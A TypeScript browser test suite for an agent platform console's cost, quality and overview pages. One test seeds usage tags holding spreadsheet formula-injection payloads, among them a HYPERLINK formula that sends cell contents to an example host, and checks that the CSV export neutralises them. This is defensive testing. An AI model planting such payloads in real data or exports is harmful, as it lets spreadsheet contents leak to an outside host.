/**
 * The console's Costs, Quality and Overview pages in Chromium, against a stack whose agents ran on the
 * scripted model server (priced by the built-in catalogue) and a ledger row of five days ago.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import type { Locator, Page } from 'playwright-core';
import { createAgent, startRunsStack, type RunsStack } from '../support/runs.js';
import { newTenant } from '../support/api.js';
import { assertAccessible, closeBrowser, openConsole, screenshot, signIn, visit, type ConsoleSession } from '../support/browser.js';
import { eventually } from '../support/eventually.js';

const DAY = 86_400;
// gpt-4.1-mini: (1000 × $0.40 + 250 × $1.60) per million tokens.
const RUN_COST = '0.0008';
const EARLIER_COST = '0.123456';

const isoDay = (seconds: number) => new Date(seconds * 1000).toISOString().slice(0, 10);

/** A table's rows as a reader sees them: each cell's text, header cells included. */
const rowsOf = async (table: Locator) =>
  Promise.all(
    (await table.locator('tr').all()).map(async (row) => (await row.locator('th, td').allTextContents()).map((text) => text.trim())),
  );

describe('console: costs, quality and overview', function () {
  this.timeout(240_000);
  let stack: RunsStack;
  let session: ConsoleSession;
  let page: Page;
  let geo: { id: string };
  let helper: { id: string };
  let geoRunId: string;
  let budgetId: string;
  // Read when the file's tests begin, not when mocha loads it: a suite that crosses midnight (UTC) before
  // reaching this file must still find its runs' usage on "today".
  let today: number;
  let range: string;
  /** What the page's Content-Security-Policy refused: the charts must draw without inline styles. */
  const refused: string[] = [];

  before(async () => {
    today = Math.floor(Date.now() / 1000 / DAY) * DAY;
    range = `from=${isoDay(today - 9 * DAY)}&to=${isoDay(today)}`;
    stack = await startRunsStack('console-analytics');
    const { admin } = stack.tenant;
    stack.openai.setFallback({ text: ['Done.'], usage: { input: 1000, output: 250 } });
    geo = await createAgent(admin, { name: 'geo' });
    helper = await createAgent(admin, { name: 'helper' });
    for (const input of ['Capital of France?', 'Capital of Spain?']) {
      const run = await admin.post(`/v1/agents/${geo.id}/run`, { input, metadata: { team: 'geo' } });
      assert.equal(run.body.status, 'completed', JSON.stringify(run.body));
      assert.equal(run.body.cost, RUN_COST);
      geoRunId = run.body.id;
    }
    const helped = await admin.post(`/v1/agents/${helper.id}/run`, { input: 'Help.' });
    assert.equal(helped.body.cost, RUN_COST, JSON.stringify(helped.body));
    stack.openai.enqueue({ status: 400 });
    const failed = await admin.post(`/v1/agents/${helper.id}/run`, { input: 'Fail.' });
    assert.equal(failed.body.status, 'failed', JSON.stringify(failed.body));
    // A call of five days ago, as the ledger keeps it, for a range wider than today.
    await stack.api.services.db.query(
      `INSERT INTO usage_records (id, project_id, source, agent_id, model, provider, price_version, input_tokens, output_tokens, cached_tokens, cost, metadata, created_at)
       VALUES ('usage_console_earlier', $1, 'run', $2, 'gpt-4.1-nano', 'openai', 'test', 1000, 100, 0, $3, '{"team": "geo"}', to_timestamp($4))`,
      [stack.tenant.projectId, geo.id, EARLIER_COST, today - 5 * DAY + 12 * 3600],
    );
    const budget = await admin.post('/v1/budgets', { scope: { type: 'project' }, period: 'day', limit_usd: '1.00', name: 'daily' });
    assert.equal(budget.status, 201, JSON.stringify(budget.body));
    budgetId = budget.body.id;
    session = await openConsole(stack.api.url);
    page = session.page;
    page.on('console', (message) => {
      if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) refused.push(message.text());
    });
    await signIn(page, stack.tenant.admin.key!);
  });

  afterEach(() => {
    assert.deepEqual(refused.splice(0), [], 'the Content-Security-Policy refused something');
  });

  after(async () => {
    await session?.close();
    await closeBrowser();
    await stack?.stop();
  });

  it('draws the costs as stacked bars and lists the exact amount per agent, with totals', async () => {
    await visit(session, `/costs?${range}`);
    await page.getByRole('heading', { level: 1, name: 'Costs' }).waitFor();
    const chart = page.getByRole('img', { name: /Stacked bars of cost per day by agent/ });
    await chart.locator('canvas').waitFor();
    assert.match((await chart.getAttribute('aria-label'))!, /\$0\.125856 in all across 2 groups/);
    await eventually(async () =>
      assert.equal(await page.evaluate(() => performance.getEntriesByName('agentplane:costs-rendered').length), 1),
    );
    // Its tooltip draws inside the canvas, nothing the CSP would refuse.
    const box = (await chart.boundingBox())!;
    await page.mouse.move(box.x + box.width - 60, box.y + box.height / 2);

    const totals = page.getByRole('table', { name: 'Totals by agent' });
    await totals.getByRole('cell', { name: '0.125056', exact: true }).waitFor();
    // Each agent by its name, and its id linking to it.
    await totals.getByText('helper', { exact: true }).waitFor();
    assert.deepEqual(
      (await rowsOf(totals)).map((row) => row.slice(0, 3)),
      [
        ['Agent', 'Cost (USD)', 'Model requests'],
        [`geo ${geo.id}`, '0.125056', '3'],
        [`helper ${helper.id}`, RUN_COST, '1'],
        ['Total', '0.125856', '4'],
      ],
    );
    // The agent's id is a link to the agent.
    assert.equal(await totals.getByRole('link', { name: geo.id }).getAttribute('href'), `/console/agents/${geo.id}`);
    const buckets = await rowsOf(page.getByRole('table', { name: /Cost per day by agent/ }));
    assert.deepEqual(buckets, [
      ['Bucket', geo.id, helper.id, 'Total'],
      [isoDay(today - 5 * DAY), EARLIER_COST, '', EARLIER_COST],
      [isoDay(today), '0.0016', RUN_COST, '0.0024'],
      ['Total', '0.125056', RUN_COST, '0.125856'],
    ]);
    await assertAccessible(page, 'the costs page');
    await screenshot(page, 'costs-by-agent');
  });

  it('groups by model or by a metadata tag, keeping the grouping in the URL', async () => {
    await visit(session, `/costs?${range}`);
    await page.getByLabel('Group by').selectOption('model');
    await page.waitForURL(/group=model/);
    const byModel = page.getByRole('table', { name: 'Totals by model' });
    await byModel.getByRole('cell', { name: EARLIER_COST, exact: true }).waitFor();
    assert.deepEqual(
      (await rowsOf(byModel)).map((row) => row.slice(0, 2)),
      [
        ['Model', 'Cost (USD)'],
        ['gpt-4.1-nano', EARLIER_COST],
        ['gpt-4.1-mini', '0.0024'],
        ['Total', '0.125856'],
      ],
    );

    await page.getByLabel('Group by').selectOption('metadata');
    await page.getByLabel('Tag key').fill('team');
    await page.getByRole('button', { name: 'Group by tag' }).click();
    await page.waitForURL(/group=metadata\.team/);
    const byTeam = page.getByRole('table', { name: 'Totals by tag team' });
    await byTeam.getByRole('cell', { name: '0.125056', exact: true }).waitFor();
    assert.deepEqual(
      (await rowsOf(byTeam)).map((row) => row.slice(0, 2)),
      [
        ['Tag team', 'Cost (USD)'],
        ['geo', '0.125056'],
        ['(none)', RUN_COST],
        ['Total', '0.125856'],
      ],
    );

    // The URL is a link to the same report.
    await page.reload();
    await page.getByRole('table', { name: 'Totals by tag team' }).getByRole('rowheader', { name: 'geo', exact: true }).waitFor();
    assert.equal(await page.getByLabel('Tag key').inputValue(), 'team');
  });

  it('downloads a CSV whose lines are the rows of the table, amounts exactly as shown', async () => {
    await visit(session, `/costs?${range}&group=model`);
    const table = page.getByRole('table', { name: /Cost per day by model/ });
    await table.getByRole('cell', { name: EARLIER_COST, exact: true }).first().waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
    assert.match(download.suggestedFilename(), /^costs-.*-1d-by-model\.csv$/);
    const csv = await readFile((await download.path())!, 'utf8');
    const lines = csv
      .trimEnd()
      .split('\r\n')
      .map((line) => line.split(','));
    assert.deepEqual(lines, await rowsOf(table));
    assert.deepEqual(lines.at(-1), ['Total', EARLIER_COST, '0.0024', '0.125856']);
  });

  it('writes tag values that would run as spreadsheet formulas as text in the CSV', async () => {
    const hostile = await newTenant(stack.api, 'console-costs-formulas');
    const tags = ['=HYPERLINK("https://example.com/?"&A1)', '+1', '-2+3', '@SUM(A1)', 'plain'];
    await stack.api.services.db.query(
      `INSERT INTO usage_records (id, project_id, source, agent_id, model, provider, price_version, input_tokens, output_tokens, cached_tokens, cost, metadata, created_at)
       SELECT 'usage_formula_' || i, $1, 'run', 'agent_formula', 'gpt-4.1-mini', 'openai', 'test', 100, 10, 0, 0.01 * i, jsonb_build_object('team', tag), to_timestamp($3)
       FROM unnest($2::text[]) WITH ORDINALITY AS t(tag, i)`,
      [hostile.projectId, tags, today + 3600],
    );
    const other = await openConsole(stack.api.url);
    try {
      await signIn(other.page, hostile.admin.key!);
      await visit(other, `/costs?${range}&group=metadata.team`);
      await other.page.getByRole('table', { name: 'Totals by tag team' }).getByRole('rowheader', { name: 'plain', exact: true }).waitFor();
      const [download] = await Promise.all([
        other.page.waitForEvent('download'),
        other.page.getByRole('button', { name: 'Download CSV' }).click(),
      ]);
      const header = (await readFile((await download.path())!, 'utf8')).split('\r\n')[0]!;
      // Biggest spend first: the tags in reverse.
      assert.equal(header, `Bucket,plain,'@SUM(A1),'-2+3,'+1,"'=HYPERLINK(""https://example.com/?""&A1)",Total`);
    } finally {
      await other.close();
    }
  });

  it('draws 90 daily buckets of 20 agents, and the same range in hours, listing every bucket with spend', async () => {
    const wide = await newTenant(stack.api, 'console-costs-wide');
    const agents = Array.from({ length: 20 }, (_, i) => `agent_wide${String(i).padStart(2, '0')}`);
    // One call per agent and day, agent i paying (i + 1) millionths a day more than on the day before.
    const rows = agents.flatMap((agent, i) =>
      Array.from({ length: 90 }, (_, d) => ({
        id: `usage_wide_${i}_${d}`,
        agent,
        cost: `0.${String((i + 1) * (d + 1)).padStart(6, '0')}`,
        at: today - d * DAY + 3600,
      })),
    );
    await stack.api.services.db.query(
      `INSERT INTO usage_records (id, project_id, source, agent_id, model, provider, price_version, input_tokens, output_tokens, cached_tokens, cost, metadata, created_at)
       SELECT r.id, $1, 'run', r.agent, 'gpt-4.1-mini', 'openai', 'test', 100, 10, 0, r.cost::numeric, '{}', to_timestamp(r.at)
       FROM jsonb_to_recordset($2::jsonb) AS r(id text, agent text, cost text, at bigint)`,
      [wide.projectId, JSON.stringify(rows)],
    );
    const other = await openConsole(stack.api.url);
    try {
      await signIn(other.page, wide.admin.key!);
      await visit(other, `/costs?from=${isoDay(today - 89 * DAY)}&to=${isoDay(today)}`);
      assert.equal(await other.page.getByRole('button', { name: 'Last 90 days' }).getAttribute('aria-pressed'), 'true');
      await other.page
        .getByRole('img', { name: /across 20 groups/ })
        .locator('canvas')
        .waitFor();
      const rendered = await eventually(async () => {
        const marks = await other.page.evaluate(() => performance.getEntriesByName('agentplane:costs-rendered').map((m) => m.startTime));
        assert.equal(marks.length, 1);
        return marks[0]!;
      });
      const table = await rowsOf(other.page.getByRole('table', { name: /Cost per day by agent/ }));
      assert.equal(table.length, 1 + 90 + 1);
      assert.equal(table[0]!.length, 1 + 20 + 1);
      // Agent 19 paid 20 × (1 + 2 + … + 90) millionths: 0.0819.
      assert.deepEqual(table.at(-1)!.slice(1, 2), ['0.0819']);
      console.log(`      costs page over 90 days × 20 agents drawn ${Math.round(rendered)} ms after navigation start`);
      // The same range in hours: 2,160 buckets, read in pages; the table lists the 90 with spend.
      const started = Date.now();
      await other.page.getByLabel('Bucket').selectOption('1h');
      await other.page.waitForURL(/width=1h/);
      const hourly = other.page.getByRole('table', { name: /Cost per hour by agent in USD \(90 of 2160 buckets had spend/ });
      await hourly.waitFor();
      assert.deepEqual((await rowsOf(hourly)).at(-1)!.slice(1, 2), ['0.0819']);
      console.log(`      the same in hourly buckets in ${Date.now() - started} ms`);
    } finally {
      await other.close();
    }
  });

  it('shows, where there is nothing yet, the curl command that would change that', async () => {
    const empty = await newTenant(stack.api, 'console-analytics-empty');
    const other = await openConsole(stack.api.url);
    try {
      await signIn(other.page, empty.admin.key!);
      await visit(other, '/costs');
      await other.page
        .getByRole('region', { name: 'No spend in this range' })
        .getByText(/curl .*\/v1\/analytics\/costs\?start_time=/)
        .waitFor();
      await visit(other, '/quality');
      await other.page
        .getByRole('region', { name: 'No scored runs in this range' })
        .getByText(/curl .*\/v1\/analytics\/quality\?start_time=/)
        .waitFor();
      await visit(other, '/');
      for (const [title, path] of [
        ['No run ended in the last hour', '/run'],
        ['No budgets', '/v1/budgets'],
        ['No files', '/v1/files'],
        ['No events yet', '/v1/events'],
      ]) {
        await other.page
          .getByRole('region', { name: title })
          .getByText(new RegExp(`curl .*${path}`))
          .waitFor();
      }
      await other.page.locator('.card', { hasText: 'Spent today (UTC)' }).getByText('$0.00').waitFor();
      await assertAccessible(other.page, 'the empty overview');
      await screenshot(other.page, 'overview-empty');
    } finally {
      await other.close();
    }
  });

  it('shows the costs in dark mode, as accessibly', async () => {
    await visit(session, `/costs?${range}`);
    await page
      .getByRole('img', { name: /Stacked bars/ })
      .locator('canvas')
      .waitFor();
    await page.getByRole('button', { name: 'Dark mode' }).click();
    assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark');
    const box = (await page.getByRole('img', { name: /Stacked bars/ }).boundingBox())!;
    await page.mouse.move(box.x + box.width - 60, box.y + box.height / 2);
    await assertAccessible(page, 'the costs page in dark mode');
    await screenshot(page, 'costs-dark');
    await page.getByRole('button', { name: 'Dark mode' }).click();
  });

  it('shows each scorer with its count and mean, and records feedback on a run as the human scorer', async () => {
    await visit(session, `/quality?${range}`);
    await page.getByRole('heading', { level: 1, name: 'Quality' }).waitFor();
    const table = page.getByRole('table', { name: /Scores per scorer/ });
    await table.getByRole('rowheader', { name: 'completion', exact: true }).waitFor();
    await page
      .getByRole('img', { name: /mean score per day/ })
      .locator('canvas')
      .waitFor();
    await page.getByRole('img', { name: /mean score per day/ }).hover();
    const scorers = Object.fromEntries((await rowsOf(table)).slice(1).map(([scorer, count, mean]) => [scorer, [count, mean]]));
    assert.deepEqual(scorers.completion, ['4', '0.750']);
    assert.deepEqual(scorers.non_empty, ['4', '0.750']);
    assert.equal(scorers.latency?.[0], '4');
    await assertAccessible(page, 'the quality page');
    await screenshot(page, 'quality');

    await page.getByLabel('Run id').fill(geoRunId);
    await page.getByLabel('Verdict').selectOption('thumbs_down');
    await page.getByLabel('Comment (optional)').fill('Not what I asked.');
    await page.getByRole('button', { name: 'Send feedback' }).click();
    await page
      .getByRole('status')
      .filter({ hasText: `Recorded human = 0 on ${geoRunId}` })
      .waitFor();
    await table.getByRole('rowheader', { name: 'human', exact: true }).waitFor();
    const human = (await rowsOf(table)).find(([scorer]) => scorer === 'human')!;
    assert.deepEqual(human.slice(1, 4), ['1', '0.000', '1']);
    const run = await stack.tenant.admin.get(`/v1/runs/${geoRunId}`);
    await page.getByLabel('Group by').selectOption('agent_id');
    await page.waitForURL(/group=agent_id/);
    const byAgent = page.getByRole('table', { name: /Scores per scorer and agent/ });
    await byAgent.getByText('helper', { exact: true }).first().waitFor();
    const completion = (await rowsOf(byAgent)).filter(([scorer]) => scorer === 'completion').map((row) => row.slice(1, 4));
    assert.deepEqual(
      completion.sort(),
      [
        [`geo ${geo.id}`, '2', '1.000'],
        [`helper ${helper.id}`, '2', '0.500'],
      ].sort(),
    );
    assert.deepEqual(
      run.body.scores
        .filter((s: { scorer: string }) => s.scorer === 'human')
        .map((s: { value: number; explanation: string }) => [s.value, s.explanation]),
      [[0, 'Not what I asked.']],
    );
  });

  it('shows the runs of the last hour, the spend against the budget and the latest events, linked to their runs', async () => {
    await visit(session, '/');
    await page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor();
    const ended = page.locator('.card', { hasText: 'Runs ended' });
    await ended.locator('.value', { hasText: /^4$/ }).waitFor();
    await page.locator('.card', { hasText: 'Failed or cancelled' }).locator('.value', { hasText: /^1$/ }).waitFor();
    await page.getByRole('img', { name: /Runs ended per minute over the last hour: 4 in all, 1 of them failed/ }).waitFor();
    await page.locator('.card', { hasText: 'Spent today (UTC)' }).getByText('$0.0024').waitFor();

    const budgets = page.getByRole('table', { name: /Budgets/ });
    await budgets.getByRole('rowheader', { name: 'daily' }).waitFor();
    const budget = (await stack.tenant.admin.get(`/v1/budgets/${budgetId}`)).body;
    assert.equal(budget.spent_usd, '0.0024');
    const [, row] = await rowsOf(budgets);
    assert.deepEqual([row![0], row![1], row![3], row![4], row![5]], ['daily', 'the project', budget.spent_usd, budget.limit_usd, '0.2%']);

    const events = page.getByRole('table', { name: /latest events/ });
    await events.getByRole('rowheader', { name: 'run.failed' }).waitFor();
    assert.equal(await events.getByRole('rowheader', { name: 'run.completed' }).count(), 3);
    await assertAccessible(page, 'the overview');
    await screenshot(page, 'overview');

    await events.getByRole('link', { name: geoRunId }).click();
    await page.waitForURL(new RegExp(`/console/runs/${geoRunId}$`));
  });
});
